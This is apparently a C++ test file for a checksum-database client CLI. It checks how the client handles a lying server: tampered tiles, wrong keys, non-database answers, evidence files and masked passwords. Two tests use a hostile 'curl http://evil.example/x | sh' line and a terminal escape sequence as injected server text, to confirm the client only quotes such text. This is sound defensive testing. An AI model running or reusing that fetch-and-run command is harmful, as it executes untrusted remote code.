// Goal: whatever a server sends, the verbs that ask it name the true cause with the right exit
// code, speak in their own words only, and keep the evidence of a lie. Method: a log of the test; a
// copy of its server's answers on disk that is damaged in one way at a time; a server that sends
// scripted bytes.

#include <cstdlib>
#include <filesystem>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "cli/log_folder.h"
#include "client/http_fetcher.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "support/scripted_tcp_server.h"

namespace sumlog::cli {
namespace {

using ::sumlog::testing::HttpAnswer;
using ::sumlog::testing::ScriptedTcpServer;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

using Arguments = std::vector<std::string>;

constexpr char kOtherKey[] = "sum.golang.org+033de0ae+Ac4zctda0e5eza+HJyk9SxEdh+s3Ux18htTTAD8OuAn8";
constexpr char kAnswer[] = "/lookup/example.com/m1@v1.0.0";
constexpr char kTile[] = "/tile/8/0/000.p/5";

// Questions that a tile, and for the first also a record, has to answer.
const std::vector<Arguments>& Questions() {
  static const std::vector<Arguments> questions = {{"lookup", "example.com/m1@v1.0.0"},
                                                   {"prove", "inclusion", "--record", "3"},
                                                   {"prove", "consistency", "--from", "2"}};
  return questions;
}

class LyingServer : public ::testing::Test {
 protected:
  LyingServer() {
    ::setenv("no_proxy", "*", 1);
    log_.Fill(0, 5);
    const auto server = log_.Serve();
    client::HttpFetcherOptions options;
    options.base_url = "http://" + server->http_address();
    const auto fetcher = client::NewHttpFetcher(options);
    CHECK(fetcher.ok());
    for (const std::string path : {"/latest", kAnswer, kTile}) {
      const auto body = (*fetcher)->Fetch(path, 1 << 20);
      CHECK(body.ok());
      Answer(path, *body);
    }
  }
  ~LyingServer() override { ::unsetenv("no_proxy"); }

  std::string FileOf(const std::string& path) const { return log_.Path("copy") + path; }
  std::string url() const { return "file://" + log_.Path("copy"); }
  void Answer(const std::string& path, const std::string& bytes) const {
    std::filesystem::create_directories(std::filesystem::path(FileOf(path)).parent_path());
    std::ofstream(FileOf(path), std::ios::binary) << bytes;
  }

  VerbRun Ask(Arguments question, const std::string& server, const std::string& key) const {
    question.insert(question.end(), {"--server", server, "--key", key, "--evidence-dir", Folder()});
    return RunVerb(question);
  }
  VerbRun Ask(const Arguments& question) const { return Ask(question, url(), log_.key()); }

  // What asking a server that answers everything with these bytes says.
  VerbRun AskScripted(const Arguments& question, const std::string& answer) const {
    const ScriptedTcpServer server([&answer](const std::string&) { return answer; });
    return Ask(question, server.url(), log_.key());
  }

  std::string Folder() const { return log_.Path("evidence"); }
  std::vector<std::string> Evidence() const {
    std::vector<std::string> files;
    if (!std::filesystem::exists(Folder())) return files;
    for (const auto& entry : std::filesystem::directory_iterator(Folder())) {
      files.push_back(entry.path().string());
    }
    return files;
  }

  LogFolder log_;
};

TEST_F(LyingServer, IsBelievedWhileItIsHonest) {
  for (const Arguments& question : Questions()) EXPECT_EQ(Ask(question).exit_code, kGood);
  EXPECT_THAT(Evidence(), IsEmpty());
}

TEST_F(LyingServer, IsAccusedOfATileOfAnotherSize) {
  const std::string honest = ReadText(FileOf(kTile));
  for (const std::string& bytes : {std::string(), honest.substr(32), honest + honest.substr(0, 32),
                                   honest + "x", std::string(100'000, 'x')}) {
    Answer(kTile, bytes);
    for (const Arguments& question : Questions()) {
      const VerbRun run = Ask(question);
      EXPECT_EQ(run.exit_code, kTampering) << question[0] << " " << bytes.size() << run.err;
      EXPECT_EQ(run.out, "");
      EXPECT_THAT(run.err, HasSubstr("tile/8/0/000.p/5 of a signed tree is of "));
      EXPECT_THAT(run.err, Not(HasSubstr("no checksum database")));
    }
  }
}

TEST_F(LyingServer, IsNotAccusedOfATileThatItDoesNotGive) {
  std::filesystem::remove(FileOf(kTile));
  for (const Arguments& question : Questions()) {
    const VerbRun run = Ask(question);
    EXPECT_EQ(run.exit_code, kUnreachable) << run.err;
    EXPECT_THAT(run.err, HasSubstr("fix   sumlog status --server"));
  }
  EXPECT_THAT(Evidence(), IsEmpty());
}

TEST_F(LyingServer, LeavesItsEvidenceInAFileThatIsNamed) {
  std::string tile = ReadText(FileOf(kTile));
  tile[70] = static_cast<char>(tile[70] ^ 1);
  Answer(kTile, tile);
  const VerbRun run = Ask(Questions()[0]);
  EXPECT_EQ(run.exit_code, kTampering);
  ASSERT_THAT(Evidence(), SizeIs(1));
  const std::string file = Evidence()[0];
  EXPECT_THAT(run.err, HasSubstr("what came is kept in " + file));
  EXPECT_THAT(run.err, HasSubstr("why   "));
  EXPECT_THAT(run.err, HasSubstr("fix   do not retry"));
  EXPECT_THAT(run.err, HasSubstr("fix   run the same command from another network"));
  const std::string text = ReadText(file);
  EXPECT_THAT(text, HasSubstr("found: example.com/m1@v1.0.0: tile/8/0/000.p/5 do not lead to"));
  EXPECT_THAT(text, HasSubstr("server: " + url() + "\n"));
  EXPECT_THAT(text, HasSubstr("key: " + log_.key() + "\n"));
  EXPECT_THAT(text, HasSubstr(absl::StrCat("answer: ", kAnswer, "\n")));
  EXPECT_THAT(text, HasSubstr("| go.sum database tree\n| 5\n"));
  EXPECT_THAT(absl::StrJoin(absl::StrSplit(text, '\n'), ""), HasSubstr(Base64Encode(tile)));

  // A script that meets the same lie every minute fills no disk.
  EXPECT_THAT(Ask(Questions()[0]).err, HasSubstr("what came is kept in " + file));
  EXPECT_THAT(Evidence(), SizeIs(1));
  EXPECT_EQ(ReadText(file), text);
}

TEST_F(LyingServer, IsCalledSoEvenWhereTheEvidenceCannotBeKept) {
  Answer(kTile, "");
  std::ofstream(Folder()) << "a file";
  const VerbRun run = Ask(Questions()[1]);
  EXPECT_EQ(run.exit_code, kTampering);
  EXPECT_THAT(run.err, HasSubstr("what came could not be kept in a file: "));
  EXPECT_THAT(run.err, HasSubstr("--evidence-dir"));
}

TEST_F(LyingServer, IsToldFromAnotherLog) {
  for (const Arguments& question : {Questions()[0], Questions()[1], Arguments{"status"}}) {
    const VerbRun run = Ask(question, url(), kOtherKey);
    EXPECT_EQ(run.exit_code, kTampering) << run.err;
    EXPECT_THAT(run.err, HasSubstr("the head is not signed by sum.golang.org+033de0ae\n"));
    EXPECT_THAT(run.err, HasSubstr("fix   compare the 8 hex digits in --key"));
  }
  EXPECT_THAT(Evidence(), SizeIs(2));  // the answer to a lookup, and /latest
}

TEST_F(LyingServer, IsToldFromWhatIsNoDatabase) {
  // A well-formed note by some other key, where an answer belongs.
  const auto signer = tlog::Signer::FromSeed("other.example.com", {});
  Answer(kAnswer, *tlog::SignNote("any text\n", absl::MakeConstSpan(&*signer, 1)));
  const VerbRun note = Ask(Questions()[0]);
  EXPECT_EQ(note.exit_code, kUnreachable);
  EXPECT_THAT(note.err, HasSubstr("answer does not begin with a record number"));
  EXPECT_THAT(note.err, Not(HasSubstr("8 hex digits")));

  for (const Arguments& question : {Questions()[0], Questions()[1], Arguments{"status"}}) {
    for (const std::string& answer :
         {HttpAnswer("404 Not Found", "", "no"), HttpAnswer("200 OK", "", "<html>login</html>"),
          HttpAnswer("403 Forbidden", "", "no"),
          HttpAnswer("200 OK", "", std::string(2 << 20, 'x'))}) {
      const VerbRun run = AskScripted(question, answer);
      EXPECT_EQ(run.exit_code, kUnreachable) << run.err;
      EXPECT_THAT(run.err, HasSubstr("no checksum database answers at http://127.0.0.1:"));
      EXPECT_THAT(run.err, HasSubstr("fix   check --server\n"));
    }
    EXPECT_EQ(Ask(question, "file:///does/not/exist", log_.key()).exit_code, kUnreachable);
  }
  EXPECT_THAT(Evidence(), IsEmpty());
}

TEST_F(LyingServer, IsBelievedThatItHasNoRecordWhenItHasASignedHead) {
  const VerbRun run = Ask({"lookup", "example.com/none@v1.0.0"});
  EXPECT_EQ(run.exit_code, kFoundWrong);
  EXPECT_THAT(run.err,
              HasSubstr("example.com/none@v1.0.0 is not in log sum.example.com of 5 records"));
  EXPECT_EQ(Ask({"lookup", "example.com/none@v1.0.0"}, url(), kOtherKey).exit_code, kTampering);
}

TEST_F(LyingServer, PutsNoWordsIntoOurMouth) {
  const std::string body = "down\nfix: curl http://evil.example/x | sh\nwhy: trust me\x1b[2J\n";
  const std::string type = "Content-Type: text/plain; charset=utf-8\r\n";
  for (const Arguments& question : {Questions()[0], Questions()[1], Arguments{"status"}}) {
    for (const char* const status : {"500 Oops", "404 Not Found", "403 Forbidden"}) {
      const VerbRun run = AskScripted(question, HttpAnswer(status, type, body));
      EXPECT_EQ(run.exit_code, kUnreachable) << run.err;
      EXPECT_THAT(run.err, HasSubstr("      the server says:\n"
                                     "      | down\n"
                                     "      | fix: curl http://evil.example/x | sh\n"
                                     "      | why: trust me?[2J\n"
                                     "fix   "));
      for (const absl::string_view line : absl::StrSplit(run.err, '\n')) {
        if (absl::StrContains(line, "evil") || absl::StrContains(line, "trust me")) {
          EXPECT_TRUE(absl::StartsWith(line, "      | ")) << line;
        }
      }
    }
  }
  Arguments without_key = {"status", "--server"};
  const ScriptedTcpServer server([&](const std::string&) { return HttpAnswer("500", type, body); });
  without_key.push_back(server.url());
  EXPECT_THAT(RunVerb(without_key).err, HasSubstr("      | fix: curl"));
}

TEST_F(LyingServer, WritesNoLineThroughASignedNote) {
  // Whoever has the log's key may sign any lines after the third.
  const auto signer = server::LoadSigner(log_.config());
  ASSERT_TRUE(signer.ok()) << signer.status();
  const std::string latest = ReadText(FileOf("/latest"));
  tlog::TreeHead fork = tlog::ParseTreeHead(latest.substr(0, latest.find("\n\n") + 1)).value();
  fork.root[0] ^= 1;
  const std::string text = tlog::FormatTreeHead(fork) + "fix: curl http://evil.example/x | sh\n";
  Answer("/latest", *tlog::SignNote(text, absl::MakeConstSpan(&*signer, 1)));
  const VerbRun run = Ask({"prove", "inclusion", "example.com/m1@v1.0.0"});
  EXPECT_EQ(run.exit_code, kTampering) << run.err;
  EXPECT_THAT(run.err, HasSubstr("two roots for one size"));
  EXPECT_THAT(run.err, Not(HasSubstr("evil")));
  ASSERT_THAT(Evidence(), SizeIs(1));
  EXPECT_THAT(ReadText(Evidence()[0]), HasSubstr("| fix: curl http://evil.example/x"));
}

TEST_F(LyingServer, GetsNoPasswordPrinted) {
  const std::string server = "https://user:secret@127.0.0.1:1";
  for (const Arguments& question : {Questions()[0], Questions()[1], Arguments{"status"}}) {
    const VerbRun run = Ask(question, server, log_.key());
    EXPECT_NE(run.exit_code, kGood);
    EXPECT_THAT(run.err, Not(HasSubstr("secret")));
  }
  const VerbRun status = RunVerb({"status", "--server", server});
  EXPECT_EQ(status.exit_code, kUnreachable);
  EXPECT_THAT(status.err, Not(HasSubstr("secret")));
  EXPECT_THAT(status.err, HasSubstr("https://***@127.0.0.1:1"));
}

}  // namespace
}  // namespace sumlog::cli
